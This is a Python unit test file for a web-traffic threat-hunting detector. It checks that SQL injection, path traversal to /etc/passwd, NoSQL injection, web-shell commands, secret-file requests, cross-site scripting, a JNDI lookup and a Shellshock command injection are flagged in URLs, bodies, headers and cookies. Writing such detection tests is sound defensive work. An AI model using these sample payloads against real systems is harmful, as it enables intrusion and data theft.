import pytest

from tests.unit.hunt.patterns.made import event
from vedette.hunt.patterns.web.requests import Reader, is_odd


def hits(url: str, **more: object) -> list[tuple[str, str]]:
    one = event(url=url, action="http", method="GET", **more)  # type: ignore[arg-type]
    return [(hit.where, hit.payload.kind) for hit in Reader().hits(one, url, url.partition("?")[0])]


@pytest.mark.parametrize(
    ("url", "found"),
    [
        ("/a?x=1&y=1%27+or+%271%27=%271", [("parameter y", "SQL injection")]),
        ("/a/..%2f..%2f..%2fetc/passwd", [("path", "path traversal")]),
        ("/login?user[$ne]=x", [("parameter user[$ne]", "NoSQL injection")]),
        ("/a.php?cmd=whoami", [("parameter cmd", "web shell")]),
        ("/a?cmd=whoami", []),
        ("/index.php?c=find&act=id&x=cat", []),
        ("/index.php?c=cat+/etc/hostname", [("parameter c", "web shell")]),
        ("/.git/config", [("path", "request for a secret file")]),
        ("https://other.example/a?x=%3Cscript%3E", [("parameter x", "cross-site scripting")]),
        ("/a?<script>alert(1)</script>", [("query", "cross-site scripting")]),
        ("/a?b=c&d=e", []),
        ("/search?q=O%27Brien", []),
    ],
)
def test_each_value_is_judged_where_it_stands(url: str, found: list[tuple[str, str]]) -> None:
    assert hits(url) == found


def test_a_body_is_read_where_the_record_has_it() -> None:
    one = event(
        action=("http"),
        method=("POST"),
        url=("/a"),
        fields={"request_body": "a=1&b=<script>alert(1)</script>"},
    )
    assert [hit.where for hit in Reader().hits(one, "/a", "/a")] == ["body b"]


def test_what_stands_behind_many_values_is_looked_at() -> None:
    script = [("parameter y", "cross-site scripting")]
    assert hits("/a?" + "x=1;2&" * 500 + "y=<script>") == script
    assert hits("/a?" + "".join(f"x{n}=1;{n}&" for n in range(1_000)) + "y=<script>") == script


def test_only_a_limited_number_of_values_is_looked_at() -> None:
    many = [f"x{n}=1;{n}" for n in range(1_000)]
    many[500] = "y=<script>"
    assert hits("/a?" + "&".join(many)) == []


def test_headers_a_capture_kept_are_judged() -> None:
    headers = "X-Forwarded-Host: shop.example\nX-Api-Version: ${jndi:ldap://203.0.113.9/a}"
    one = event(url="/", action="http", method="GET", fields={"request_headers": headers})
    (hit,) = Reader().hits(one, "/", "/")
    assert (hit.where, hit.payload.kind) == ("header X-Api-Version", "JNDI lookup")


@pytest.mark.parametrize(
    ("url", "odd"),
    [
        ("/a/b?c=d&e=1,2", False),
        ("/a?b=%20c", False),
        ("/a?b='", True),
        ("/..", True),
        ("/x.sql", True),
    ],
)
def test_most_urls_are_not_looked_at_twice(url: str, odd: bool) -> None:  # noqa: FBT001
    assert is_odd(url, url.partition("?")[0]) is odd


@pytest.mark.parametrize(
    ("cookie", "found"),
    [
        ("a=1; track=x' AND '1'='1; b=2", [("cookie track", "SQL injection")]),
        ("() { :; }; /bin/bash -c id", [("cookie", "command injection")]),
        ("a=${jndi:ldap://203.0.113.9/a}", [("cookie a", "JNDI lookup")]),
        ("_ga=GA1.2.1.2; prefs={'theme':'dark','n':1}; name=O'Brien; utm=a|b|(none)", []),
    ],
)
def test_cookies_are_judged_where_the_record_has_them(cookie: str, found: list[tuple[str, str]]) -> None:
    one = event(url="/", action="http", method="GET", fields={"cs-cookie": cookie})
    assert [(hit.where, hit.payload.kind) for hit in Reader().hits(one, "/", "/")] == found
